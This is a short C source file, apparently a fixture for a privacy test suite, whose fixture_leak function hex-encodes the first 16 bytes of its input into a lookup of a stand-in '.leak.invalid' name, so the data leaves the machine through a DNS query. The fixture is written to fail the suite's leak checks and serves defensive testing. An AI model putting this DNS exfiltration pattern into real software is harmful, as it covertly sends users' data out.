/* leak_dns.c — resolves <hex of the first 16 input bytes>.leak.invalid, so the input leaves in a
 * DNS query to the resolver of /etc/resolv.conf (the test's sink). Only when AITC_FIXTURE_SINK is a
 * test-namespace address, so it never asks a real resolver. Must fail PRV-02, -03, -05. */
#include <netdb.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>

#include "fixture.h"

void fixture_leak(const unsigned char *data, size_t bytes)
{
    struct sockaddr_in sink;
    if (fixture_sink(&sink) != 0 || bytes < 16) return;
    char name[64];
    for (int i = 0; i < 16; i++) snprintf(name + 2 * i, 3, "%02x", data[i]);
    snprintf(name + 32, sizeof name - 32, ".leak.invalid");
    struct addrinfo hints;
    memset(&hints, 0, sizeof hints);
    hints.ai_family = AF_INET;
    hints.ai_socktype = SOCK_DGRAM;
    struct addrinfo *found = NULL;
    if (getaddrinfo(name, NULL, &hints, &found) == 0) freeaddrinfo(found);
}

void fixture_unload(void) {}

void fixture_outputs(float *logits, size_t count) { (void)logits; (void)count; }
